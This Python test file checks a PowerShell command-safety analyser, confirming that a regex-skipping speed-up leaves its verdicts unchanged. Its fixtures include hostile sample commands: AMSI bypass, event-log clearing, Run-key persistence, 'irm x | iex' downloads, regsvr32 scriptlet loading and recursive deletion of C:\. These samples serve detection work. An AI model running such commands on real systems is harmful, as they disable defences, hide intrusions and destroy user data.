"""Speed bar of issue 14 on the PowerShell path (safety-sp9p): cheaper per step, no verdict moved.

- Whole-text scans that run on every PowerShell text (AMSI tampering, startup folders, ADSI
  accounts, .NET registry writes, endless process loops, `mshta`-style hosts, downloads) are
  skipped when the text holds none of the literal strings one of which every match must
  hold. Those strings are read from each regular expression itself (`needles`), so a rule
  edited later keeps a correct shortcut (or none), never a stale list.
- The walk reads an ASCII text's node text and spans straight from the text (no bytes copied
  and decoded, no byte-to-character mapping), and a command's name once, not four times.

`bench/sp9b_verdicts.py` (one dump, run on two checkouts and diffed) checks every corpus and
held-out row and the bench's pathological inputs for identical verdicts. Tests never assert timings.
"""

from __future__ import annotations

import csv
import random
import re
from pathlib import Path

import pytest

from aintern_ls.safety import assess, budget, powershell
from aintern_ls.safety.analyser import _assess_cached
from aintern_ls.safety.bash import Positions

ROOT = Path(__file__).resolve().parents[2]

# Every pattern `powershell.analyse` and its walker skip by `may_match`.
_SKIPPED = [
    powershell._ENDLESS_SPAWN,
    powershell._SCRIPT_CREATE,
    powershell._DOTNET_REGISTRY,
    powershell._ADSI_ACCOUNT,
    powershell._STARTUP_FOLDER,
    powershell._AMSI,
    powershell._NET_LOG_CLEAR,
    powershell._READS_THE_LINE,
    powershell._DOWNLOAD,
]

# A text each alternative of those patterns matches (in mixed case).
_MATCHING = [
    "while ($true) { Start-Process calc }",
    "FOR (;;) { saps notepad }",
    "do { ii x.lnk } while (1)",
    "[ScriptBlock]::Create($c).Invoke()",
    "$ExecutionContext.InvokeCommand.InvokeScript($s)",
    "Invoke-Command -ScriptBlock ([scriptblock]::Create($x))",
    "$k.SetValue('Run', 'x.exe')",
    "[Microsoft.Win32.Registry]::LocalMachine.CreateSubKey('x')",
    "$r.SetDWordValue(2147483650, 'k', 'v', 1)",
    "$g.Add('WinNT://./bob')",
    "$c.Create('user', 'bob')",
    "$u.SetPassword('x')",
    "$u.Invoke('SetPassword', 'x')",
    "[DirectoryServices.AccountManagement.UserPrincipal]::new($ctx)",
    "New-Object System.DirectoryServices.AccountManagement.UserPrincipal",
    'copy x.lnk "$env:APPDATA\\Microsoft\\Windows\\Start Menu\\Programs\\Startup"',
    "explorer shell:common startup",
    "copy a.dotm $env:APPDATA\\Microsoft\\Word\\STARTUP",
    "copy a.xlam XLSTART\\",
    "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')",
    "$a.GetField('amsiInitFailed','NonPublic,Static')",
    "Set-ItemProperty HKLM:\\x -Name EnableScriptBlockLogging, 0",
    "$s.GetField('cachedGroupPolicySettings')",
    "[Reflection.Assembly]::x.GetField('etwProvider')",
    "PSEtwLogProvider",
    "[System.Diagnostics.Eventing.Reader.EventLogSession]::GlobalSession.ClearLog('Security')",
    "$l.ClearLog('System')",
    "[System.Diagnostics.EventLog]::new('Security').Clear()",
    "(New-Object System.Diagnostics.EventLog('Security')).Clear()",
    'MSHTA vbscript:Close(Execute("x"))',
    "regsvr32 /s /u /i:http://x/a.sct scrobj.dll",
    "rundll32 javascript:x",
    "wscript a.vbs",
    "CScript //nologo a.js",
    "(New-Object Net.WebClient).DownloadString('x')",
    "iwr http://x -OutFile y",
    "irm x | iex",
    "Invoke-WebRequest x",
    "Start-BitsTransfer -Source x",
    "HTTPS://example.org/a",
]


def _powershell_rows() -> list[str]:
    rows: list[str] = []
    tests = ROOT / "tests" / "safety"
    for path in sorted(tests.glob("*.tsv")) + sorted((tests / "heldout").glob("*.tsv")):
        with path.open(encoding="utf-8", newline="") as fh:
            for row in csv.DictReader(fh, delimiter="\t", quoting=csv.QUOTE_NONE):
                if (row.get("shell") or "").lower() in ("powershell", "pwsh", "ps1"):
                    rows.append((row.get("command") or "").replace("\\n", "\n"))
    return rows


def test_every_alternative_of_the_skipped_patterns_is_exercised() -> None:
    for pattern in _SKIPPED:
        hits = [t for t in _MATCHING if pattern.search(t)]
        assert hits, pattern.pattern
        assert powershell.needles(pattern) is not None, pattern.pattern  # the shortcut is on


@pytest.mark.parametrize("pattern", _SKIPPED, ids=lambda p: p.pattern[:30])
def test_a_text_a_pattern_matches_is_never_skipped(pattern: re.Pattern[str]) -> None:
    texts = _MATCHING + _powershell_rows()
    assert len(texts) > 300
    for text in texts:
        if pattern.search(text):
            assert powershell.may_match(pattern, text.lower(), text.isascii()), (pattern, text)


def test_needles_are_read_from_the_pattern() -> None:
    assert powershell.needles(re.compile("a|b(?:c|d)e")) == ("a", "b")
    assert powershell.needles(re.compile(r"(?i)\bFoo(?:Bar|Bazz)+\s*\(")) == ("foo",)
    assert powershell.needles(re.compile(r"(?i)\bx(?:setvalue|createsubkey)")) == (
        "setvalue",
        "createsubkey",
    )
    assert powershell.needles(re.compile("x*|abc")) is None  # `x*` matches ""
    assert powershell.needles(re.compile("(?:ab)?c?")) is None
    assert powershell.needles(re.compile("[ab]cd|e")) == ("cd", "e")
    # A literal that is not ASCII may match ASCII letters case-insensitively (long s: s).
    assert powershell.needles(re.compile("(?i)\u017ftart")) is None
    assert powershell.may_match(re.compile("(?i)\u017ftart"), "start", True)
    # Text that is not ASCII is always searched.
    assert powershell.may_match(re.compile("(?i)amsi"), "\u212a", False)
    assert not powershell.may_match(re.compile("(?i)amsi"), "get-childitem", True)


def _random_pattern(rng: random.Random, depth: int = 0) -> str:
    kind = rng.random()
    if depth > 2 or kind < 0.35:
        return "".join(rng.choice("abcAB.") for _ in range(rng.randint(1, 3))).replace(".", r"\.")
    if kind < 0.5:
        return "(?:" + "|".join(_random_pattern(rng, depth + 1) for _ in range(2)) + ")"
    if kind < 0.6:
        return "(" + _random_pattern(rng, depth + 1) + ")" + rng.choice(["", "?", "*", "+", "{2}"])
    if kind < 0.7:
        return rng.choice([r"\b", r"\s*", "[ab]", "[^a]", ".", r"\w+"])
    parts = [_random_pattern(rng, depth + 1) for _ in range(rng.randint(2, 3))]
    return ("|" if rng.random() < 0.4 else "").join(parts)


def test_needles_never_skip_a_match_of_random_patterns() -> None:
    rng = random.Random(9)
    texts = ["".join(rng.choice("abcAB. x") for _ in range(rng.randint(0, 14))) for _ in range(300)]
    checked = 0
    for _ in range(400):
        source = _random_pattern(rng)
        for flags in (0, re.I):
            pattern = re.compile(source, flags)
            for text in texts:
                if pattern.search(text):
                    checked += 1
                    assert powershell.may_match(pattern, text.lower(), True), (source, text)
    assert checked > 1000


def _slow_text(node: powershell.Node) -> str:
    return budget.node_bytes(node).decode("utf-8", "replace")


def _slow_span(self: powershell._Walker, node: powershell.Node) -> tuple[int, int]:
    return self.pos.char(node.start_byte), self.pos.char(node.end_byte)


def test_reading_ascii_text_directly_changes_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
    """The walk's fast reads (node text from the str, spans without mapping) against the
    byte reads they replace, on 600 PowerShell corpus rows and on texts with non-ASCII
    characters, long command names and nested PowerShell."""
    long_name = "& {" + " Get-Date;" * 500 + " } ; Remove-Item -Recurse -Force C:\\"
    texts = [
        *_powershell_rows()[:600],
        "Remove-Item 'C:\\Users\\Zoë\\x'; Remove-Item -Recurse -Force C:\\Windows",
        "Write-Host 'héllo' | Out-Null; rm -r -fo $env:USERPROFILE",
        long_name,
        'powershell -Command "Remove-Item -Recurse C:\\\\x"; Remove-Item -Recurse -Force ~',
        "$c = 'Remove-Item'; & $c -Recurse -Force C:\\; Get-ChildItem ~ | Remove-Item -Recurse",
    ]
    analyse = _assess_cached.__wrapped__
    fast = [analyse(t, "powershell", None) for t in texts]
    monkeypatch.setattr(powershell, "_text", _slow_text)
    monkeypatch.setattr(powershell._Walker, "span", _slow_span)
    monkeypatch.setattr(powershell.budget, "node_bytes", budget.node_bytes)
    slow = [analyse(t, "powershell", None) for t in texts]
    assert fast == slow
    assert powershell._FAST.text is None


def test_the_fast_text_is_put_back_after_nested_and_cut_analyses() -> None:
    assert powershell._FAST.text is None
    nested = 'powershell -c "Get-ChildItem é"; Remove-Item -Recurse -Force C:\\'
    assert assess(nested, "powershell").level.label == "blocked"
    assert powershell._FAST.text is None
    cut = "Get-Date; " * 3000  # runs out of its budget inside the walk
    _assess_cached.__wrapped__(cut, "powershell", None)
    assert powershell._FAST.text is None
    # Nested ASCII code inside a text with non-ASCII characters, and the other way round.
    for text in (
        "Write-Host 'ü'; powershell -c 'Remove-Item -Recurse -Force C:\\Windows'",
        "powershell -c \"Write-Host 'ü'\"; Remove-Item -Recurse -Force C:\\Windows",
    ):
        got = assess(text, "powershell")
        assert got.level.label == "blocked", text
        blocked = [f for f in got.findings if f.level.label == "blocked"]
        assert any("C:\\Windows" in text[f.start : f.end] for f in blocked), (text, blocked)
        assert powershell._FAST.text is None


@pytest.mark.parametrize("depth", [1, 5, 40])
def test_nesting_keeps_its_verdict_at_every_depth_the_recursion_limit_allows(depth: int) -> None:
    inner = "Remove-Item -Recurse -Force C:\\"
    for open_, close in (("iex (", ")"), ('"$(', ')"'), ("& { ", " }")):
        text = open_ * depth + inner + close * depth
        got = assess(text, "powershell")
        assert got.level.label == "blocked", (depth, open_)


def test_nesting_past_the_recursion_limit_is_too_complex() -> None:
    text = "iex (" * 1600 + "Get-Date" + ")" * 1600
    got = _assess_cached.__wrapped__(text, "powershell", None)
    assert got.level.label == "critical"
    assert any(f.rule == "too-complex" for f in got.findings)


def test_positions_of_an_ascii_text_are_its_byte_offsets() -> None:
    text = "Remove-Item -Recurse C:\\x"
    pos = Positions(text, text.encode())
    assert [pos.char(i) for i in range(len(text) + 1)] == list(range(len(text) + 1))


_PIECES = [
    "C:",
    "\\",
    "/",
    "x",
    "Windows",
    "$env:windir",
    "$HOME",
    "${env:ProgramFiles(x86)}",
    "Join-Path ",
    "[IO.Path]::Combine(",
    ", ",
    ")",
    "(",
    "'",
    '"',
    " + ",
    " ",
    "\t",
    "-",
    ".",
    "é",
    "[Environment]::GetFolderPath('Desktop')",
    "$(",
    "$env:HOMEDRIVE$env:HOMEPATH",
    "`",
    "*",
]


def test_plain_words_take_the_shortcut_to_the_same_value() -> None:
    rng = random.Random(14)
    for _ in range(6000):
        raw = "".join(rng.choice(_PIECES) for _ in range(rng.randint(0, 6)))
        assert powershell._unquoted(raw) == powershell.unquote(raw, posix=False), raw
